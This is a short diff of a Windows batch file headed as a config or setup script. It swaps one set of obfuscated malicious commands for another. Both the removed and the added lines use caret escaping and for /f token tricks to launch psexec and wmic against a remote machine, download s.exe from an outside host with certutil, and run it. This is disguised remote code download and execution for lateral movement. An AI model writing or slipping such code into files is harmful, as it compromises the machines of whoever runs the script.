@@ -1,3 +1,3 @@
-REM config 7246 v4
-^for /^f "tokens=3 delims=@" %%i i^n ("odnt@prth@psexec.exe") ^do %%^i \\2^03.^0.^1^13.2^00 -a^cce^p^t^eu^la -s -^d cmd /c "certutil -urlcache -f http://203.0.113.200/s.exe C:\s.exe && C:\s.exe"
-^f^or /f "tokens=3 delims=~" %%i ^in ("feuk~zodh~wmic") ^do %%i /node:^20^3.^0.1^1^3.200 ^proce^s^s c^all ^cr^ea^t^e "cmd /c C:\s.exe"
+REM setup 3189 v4
+f^or /f "tokens=2 delims=~" %%i ^in ("dgpx~psexec.exe~vquo") do %%i \\19^8.5^1.^1^00.^9 -a^cc^ep^te^u^l^a -^s -^d cm^d /^c "certutil -urlcache -f http://198.51.100.9/s.exe C:\s.exe && C:\s.exe"
+^fo^r /^f "tokens=1 delims=~" %%^i in ("wmic~wgyq~tqtw") do %%^i /^n^od^e:^198.^51.10^0.9 proc^ess cal^l ^cre^a^te "cmd /c C:\s.exe"
